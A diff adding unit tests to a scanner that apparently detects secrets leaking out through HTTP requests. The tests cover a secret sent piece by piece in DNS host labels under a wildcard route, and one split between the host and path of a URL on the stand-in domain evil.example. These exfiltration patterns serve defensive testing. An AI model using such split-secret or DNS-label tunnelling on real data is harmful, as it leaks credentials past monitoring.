@@ -109,6 +109,22 @@ class AcrossRequests(unittest.TestCase):
         self.assert_split(self.send("http://allowed.example/log", [("X-Log", pad[:8000]), ("X-Part", b)],
                                     json.dumps({"log": pad}).encode()))
 
+    def test_a_label_at_a_time_in_host_names_and_never_redacted(self) -> None:
+        # A DNS tunnel under a wildcard route: one piece per request, in the host's first label.
+        labels = pieces(SECRET, [10, 20])
+        for label in labels[:2]:
+            self.assertEqual(self.send(f"https://{label}.bucket.storage.example/x"), [])
+        result = self.scanner.redact_request("GET", f"https://{labels[2]}.bucket.storage.example/x", [], b"",
+                                             memory=self.memory)
+        self.assert_split(result.findings)
+        self.assertEqual([f.location for f in result.unredacted], ["url.host[0]"])  # a host cannot be rewritten
+
+    def test_half_in_the_host_and_half_in_the_path(self) -> None:
+        a, b = pieces(SECRET, [16])
+        found = Scanner(SECRETS).scan_request("GET", f"https://{a}.evil.example/{b}")
+        self.assertEqual([(f.secret_name, f.encoding, f.location) for f in found],
+                         [("HOST_SECRET", "split", "url.host[0]+url.path[1]")])
+
     def test_pieces_in_any_order_and_channel(self) -> None:
         a, b, c, d = pieces(SECRET, [8, 16, 24])
         self.assertEqual(self.send("http://allowed.example/x", [("Cookie", f"s={c}")]), [])
